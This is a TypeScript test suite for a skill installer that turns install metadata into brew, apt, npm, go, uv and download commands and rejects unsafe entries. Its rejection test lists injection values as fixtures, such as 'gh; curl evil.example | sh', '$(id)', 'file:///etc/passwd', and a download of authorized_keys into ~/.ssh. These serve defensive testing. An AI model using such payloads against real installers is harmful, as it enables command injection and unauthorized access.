import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'

import { type InstallGround, parseSkill, proposeInstalls } from '../../../src/skills/format/index.ts'
import type { InstallSpec, JsonObject } from '../../../src/kernel/index.ts'
import { seedFor } from './skills.ts'

function ground(os: string, bins: readonly string[] = []): InstallGround {
  return {
    os,
    hasBin: (name) => bins.includes(name),
    home: '/home/me',
    toolsDirectory: '/home/me/.nexus/tools',
    isRoot: false,
  }
}

/** The entries as a skill writes them. */
function specs(...entries: readonly JsonObject[]): readonly InstallSpec[] {
  const text = `---\nname: x\ndescription: y\nmetadata: ${JSON.stringify({ nexus: { install: entries } })}\n---\n`
  const { document } = parseSkill(text, { path: 'SKILL.md' })
  assert.ok(document)
  return document.metadata.install
}

const commandsOf = (entry: JsonObject, where = ground('linux')) => proposeInstalls(specs(entry), where)[0]?.commands

test('each kind becomes the command that installs it', () => {
  const table: readonly (readonly [JsonObject, string])[] = [
    [{ kind: 'brew', formula: 'gh' }, 'brew install gh'],
    [{ kind: 'brew', formula: 'owner/tap/tool@1' }, 'brew install owner/tap/tool@1'],
    [{ kind: 'apt', package: 'g++-12' }, 'sudo apt-get install -y g++-12'],
    [{ kind: 'npm', package: '@scope/name@1.2.3' }, 'npm install -g --ignore-scripts @scope/name@1.2.3'],
    [{ kind: 'node', package: 'prettier' }, 'npm install -g --ignore-scripts prettier'],
    [{ kind: 'go', module: 'github.com/o/t/cmd/t' }, 'go install github.com/o/t/cmd/t@latest'],
    [{ kind: 'go', module: 'github.com/o/t@v1.2.3' }, 'go install github.com/o/t@v1.2.3'],
    [{ kind: 'uv', package: 'ruff==0.14.0' }, 'uv tool install ruff==0.14.0'],
    [{ kind: 'UV', package: 'httpie[socks]' }, 'uv tool install httpie[socks]'],
  ]
  for (const [entry, command] of table) assert.deepEqual(commandsOf(entry), [command.split(' ')], JSON.stringify(entry))
  assert.deepEqual(commandsOf({ kind: 'apt', package: 'jq' }, { ...ground('linux'), isRoot: true }), [
    ['apt-get', 'install', '-y', 'jq'],
  ])
})

test('a download becomes fetching, unpacking or marking as a program, in the directory of tools', () => {
  const digest = 'A'.repeat(64)
  const [archive] = proposeInstalls(
    specs({
      kind: 'download',
      url: 'https://x.org/a/tool.tar.gz?v=1',
      sha256: digest,
      stripComponents: 1,
      targetDir: 'tool',
    }),
    ground('linux'),
  )
  const tools = '/home/me/.nexus/tools'
  assert.deepEqual(archive?.commands, [
    ['mkdir', '-p', `${tools}/tool`],
    ['curl', '-fL', '--proto', '=https', '-o', `${tools}/tool/tool.tar.gz`, 'https://x.org/a/tool.tar.gz?v=1'],
    ['tar', '-xf', `${tools}/tool/tool.tar.gz`, '-C', `${tools}/tool`, '--strip-components=1'],
  ])
  assert.equal(archive?.sha256, 'a'.repeat(64))
  const program = commandsOf({ kind: 'download', url: 'https://x.org/jq', targetDir: '~/.local/bin', bins: ['jq'] })
  assert.deepEqual(program?.at(-1), ['chmod', '+x', '/home/me/.local/bin/jq'])
  const zip = commandsOf({ kind: 'download', url: 'https://x.org/dl/', archive: 'zip' })
  assert.deepEqual(zip?.at(-1), ['unzip', '-o', `${tools}/download`, '-d', tools])
  assert.equal(commandsOf({ kind: 'download', url: 'https://x.org/a.zip', extract: false })?.length, 2)
})

test('the entry is chosen that is for the target, whose installer the target has, in a fixed order', () => {
  const all = specs(
    { id: 'go', kind: 'go', module: 'x.org/t' },
    { id: 'node', kind: 'node', package: 't' },
    { id: 'uv', kind: 'uv', package: 't' },
    { id: 'brew', kind: 'brew', formula: 't', os: ['macos'] },
    { id: 'apt', kind: 'apt', package: 't', os: ['linux'] },
    { id: 'file', kind: 'download', url: 'https://x.org/t' },
  )
  const chosen = (os: string, bins: readonly string[] = []) =>
    proposeInstalls(all, ground(os, bins))
      .filter(({ isChosen }) => isChosen)
      .map(({ id }) => id)
  assert.deepEqual(chosen('darwin', ['brew', 'uv']), ['brew'])
  assert.deepEqual(chosen('darwin', ['uv', 'npm']), ['uv'])
  assert.deepEqual(chosen('macos'), ['brew'])
  assert.deepEqual(chosen('linux', ['apt-get', 'uv']), ['apt'])
  assert.deepEqual(chosen('linux', ['go', 'npm']), ['node'])
  assert.deepEqual(chosen('linux', ['go']), ['go'])
  assert.deepEqual(chosen('win32', ['go', 'brew']), ['go'])
  const brew = proposeInstalls(all, ground('linux')).find(({ id }) => id === 'brew')
  assert.deepEqual([brew?.commands, brew?.problem], [[], 'it is for darwin, and the target is linux'])
})

test('a download whose name begins with . or - gets a name that hides nothing and is no option', () => {
  const names = ['.bashrc', '-rf', '.-x.sh', '--', '.env.d', '%2e%2ehidden']
  const files = names.map((name) => commandsOf({ kind: 'download', url: `https://x.org/${name}` })?.[1]?.[5])
  assert.deepEqual(
    files.map((file) => file?.replace('/home/me/.nexus/tools/', '')),
    ['bashrc', 'rf', 'x.sh', 'download', 'env.d', '2e-2ehidden'],
  )
})

test('when there are only downloads, each for the target is chosen', () => {
  const files = specs(
    { id: 'a', kind: 'download', url: 'https://x.org/a' },
    { id: 'b', kind: 'download', url: 'https://x.org/b', os: ['darwin'] },
    { id: 'c', kind: 'download', url: 'https://x.org/c', os: ['linux'] },
  )
  const chosen = proposeInstalls(files, ground('linux')).filter(({ isChosen }) => isChosen)
  assert.deepEqual(
    chosen.map(({ id }) => id),
    ['a', 'c'],
  )
})

test('what no installer may be given is named with its reason and never becomes a command', () => {
  const hostile: readonly JsonObject[] = [
    { kind: 'brew', formula: '--cask' },
    { kind: 'brew', formula: '../../evil.rb' },
    { kind: 'brew', formula: 'https://evil.example/x.rb' },
    { kind: 'brew', formula: 'gh; curl evil.example | sh' },
    { kind: 'brew' },
    { kind: 'npm', package: 'git+https://evil.example/x.git' },
    { kind: 'npm', package: 'file:../x' },
    { kind: 'npm', package: '-g' },
    { kind: 'npm', package: ['a', 'b'] },
    { kind: 'go', module: 'x.org/../../t' },
    { kind: 'go', module: '-ldflags=x' },
    { kind: 'uv', package: 'x --index-url=https://evil.example' },
    { kind: 'uv', package: '$(id)' },
    { kind: 'apt', package: 'openssh-server-' },
    { kind: 'apt', package: './evil.deb' },
    { kind: 'apt', package: 'jq\nevil' },
    { kind: 'apt', package: '__proto__' },
    { kind: 'constructor', package: 'x' },
    { kind: 'curl', command: 'sh' },
    { kind: 'download', url: 'http://x.org/a' },
    { kind: 'download', url: 'file:///etc/passwd' },
    { kind: 'download', url: 'https://user:pass@x.org/a' },
    { kind: 'download', url: 'https://x.org/a;id' },
    { kind: 'download', url: 'https://x.org/a', sha256: 'abc' },
    { kind: 'download', url: 'https://x.org/a.tar', stripComponents: -1 },
    { kind: 'download', url: 'https://x.org/a', archive: 'iso' },
    { kind: 'download', url: 'https://x.org/a', targetDir: '/etc' },
    { kind: 'download', url: 'https://x.org/a', targetDir: '../x' },
    { kind: 'download', url: 'https://x.org/authorized_keys', targetDir: '~/.ssh' },
    { kind: 'download', url: 'https://x.org/a', targetDir: '~/.nexus/tools/../../.ssh' },
  ]
  for (const entry of hostile) {
    const [proposal] = proposeInstalls(specs(entry), ground('linux', ['brew', 'npm', 'go', 'uv', 'apt-get']))
    assert.deepEqual(proposal?.commands, [], JSON.stringify(entry))
    assert.equal(proposal?.isChosen, false)
    assert.ok(proposal?.problem, JSON.stringify(entry))
  }
})

test('whatever an entry holds, a command is a known installer and its words hold nothing for a shell or a terminal', (t) => {
  const programs = ['brew', 'sudo', 'uv', 'npm', 'go', 'mkdir', 'curl', 'tar', 'unzip', 'chmod']
  const kind = fc.constantFrom('brew', 'apt', 'npm', 'go', 'uv', 'download')
  const word = fc.oneof(
    fc.string(),
    fc.string({ unit: fc.constantFrom('a', '-', '.', '/', '~', '@', ';', ' ', '\u001b', '$', '%') }),
  )
  const url = word.map((text) => `https://x.org/${text}`)
  fc.assert(
    fc.property(kind, fc.record({ name: word, url, odd: fc.anything() }), (given, { name, url: address, odd }) => {
      const details = {
        formula: name,
        package: name,
        module: name,
        url: address,
        targetDir: odd,
        stripComponents: odd,
      } as JsonObject
      const spec: InstallSpec = { id: 'x', kind: given, bins: [], os: [], details }
      for (const { commands } of proposeInstalls([spec], ground('linux')))
        for (const [program = '', ...words] of commands) {
          assert.ok(programs.includes(program))
          for (const each of words) assert.match(each, /^[\w@%+:,./=~?#!*()[\]{}^-]+$/u, each)
        }
    }),
    { seed: seedFor(t) },
  )
})
